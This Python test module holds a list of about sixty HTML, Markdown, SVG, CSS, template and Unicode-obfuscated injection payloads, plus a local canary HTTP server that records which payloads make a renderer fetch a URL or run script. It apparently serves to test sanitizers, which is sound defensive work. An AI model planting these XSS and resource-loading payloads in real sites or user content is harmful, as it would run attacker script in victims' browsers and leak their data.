"""Texts that ask a page for pictures, scripts, frames and styles in sixty ways, and a server that sees it.

`{u}` is the address of the canary. Which of them work where text is taken for HTML is
shown by a test of the tests; the others aim at renderers of Markdown and at parsers.
"""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAYLOADS = (
    # pictures
    "<img src={u}>",
    "<IMG SRC='{u}' width=1>",
    "<img/src={u}/onload=window.pwned=1>",
    "<img srcset='{u} 2x'>",
    "<picture><source srcset='{u}'><img src=x></picture>",
    "<input type=image src={u}>",
    "<body background='{u}'>",
    "<table background={u}><td>x</table>",
    "<image src={u}>",
    "<svg><image href={u} /></svg>",
    "<svg><image xlink:href='{u}'/></svg>",
    "<svg><use href='{u}#a'/></svg>",
    "<svg><filter id=f><feImage href='{u}'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    "<video src={u} autoplay></video>",
    "<video poster={u}></video>",
    "<video><source src={u} onerror=window.pwned=1></video>",
    "<audio src={u} autoplay></audio>",
    "<video><track default src={u}></video>",
    # Markdown
    "![a]({u})",
    "![a](<{u}> 'title')",
    "![a][canary]\n\n[canary]: {u}",
    "[![a]({u})]({u})",
    "[a](javascript:window.pwned=1)",
    "[a](JaVaScRiPt&colon;window.pwned=1)",
    "[a](data:text/html,<script>window.pwned=1</script>)",
    "<{u}>",
    "{u}",
    "[ref]: {u}\n\n![ref]",
    "```html\n<img src={u}>\n```",
    "$$\\includegraphics{{{u}}}$$ $\\href{{javascript:window.pwned=1}}{{a}}$",
    "```mermaid\ngraph TD; A[<img src={u}>]; click A '{u}'\n```",
    # scripts
    "<script>window.pwned=1;fetch('{u}')</script>",
    "<script src={u}></script>",
    "</textarea></title></style></script><script src='{u}'></script>",
    "<svg><script href='{u}'></script></svg>",
    "<svg onload=window.pwned=1;fetch('{u}')>",
    "<img src=x onerror=window.pwned=1;fetch('{u}')>",
    "<img src=x onerror=alert(1)>",
    "<details open ontoggle=window.pwned=1;fetch('{u}')><summary>x</summary></details>",
    "<input autofocus onfocus=window.pwned=1;fetch('{u}')>",
    "<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart=fetch('{u}')>x</b>",
    "<iframe srcdoc='<img src={u}><script>parent.pwned=1</script>'></iframe>",
    "<a href=javascript:window.pwned=1 id=citewise>x</a>",
    "\"><img src=x onerror=window.pwned=1;fetch('{u}')>",
    "' autofocus onfocus='window.pwned=1' x='",
    "{{{{constructor.constructor('window.pwned=1')()}}}} ${{fetch('{u}')}} <%= 1 %>",
    # frames, objects, documents
    "<iframe src={u}></iframe>",
    "<object data={u}></object>",
    "<embed src={u}>",
    "<link rel=stylesheet href={u}>",
    "<link rel=prefetch href={u}>",
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<base href={u}><img src=/base>",
    "<form action={u}><button id=send autofocus>x</button></form>",
    # styles
    "<style>@import '{u}';</style>",
    "<b style='background:url({u})'>x</b>",
    "<style>*{{background-image:url({u})}}</style>",
    # Unicode
    "\uff1cimg src={u}\uff1e \u2039img src={u}\u203a &lt;img src={u}&gt; &#60;img src={u}&#62;",
    "\u202e<img src={u}>\u202c \u2066<b onclick=window.pwned=1>\u2069 \ufeff<\u200bimg src={u}>",
    "\u003cimg src=x onerror=\u0077indow.pwned=1\u003e <\u0131mg src={u}> <\u017fcript src={u}>",
)


@dataclass
class Canary:
    """A server that nobody should ask; `calls` holds the paths that were asked for.

    ``/html/n`` is the n-th payload as a page, and a page that runs a script asks for ``/pwned``.
    """

    url: str
    calls: list[str] = field(default_factory=list)

    def payloads(self) -> list[str]:
        """Return all payloads, each with a path of its own."""
        return [text.format(u=f"{self.url}/{n}") for n, text in enumerate(PAYLOADS)]

    def page(self, path: str) -> str:
        """Return what the server answers."""
        number = path.removeprefix("/html/")
        if not number.isdecimal():
            return ""
        trap = "Object.defineProperty(window, 'pwned', {set() { fetch('/pwned') }})"
        return f"<!doctype html><script>{trap}</script><body>{self.payloads()[int(number)]}"


@contextmanager
def canary() -> Iterator[Canary]:
    """Listen on a free port of loopback."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.calls.append(self.path)
            body = found.page(self.path).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_OPTIONS = do_HEAD = do_GET  # noqa: N815 - names that http.server looks for

        def log_message(self, *_: object) -> None:
            """Write nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        found = Canary(f"http://127.0.0.1:{server.server_address[1]}")
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield found
        finally:
            server.shutdown()
            thread.join()
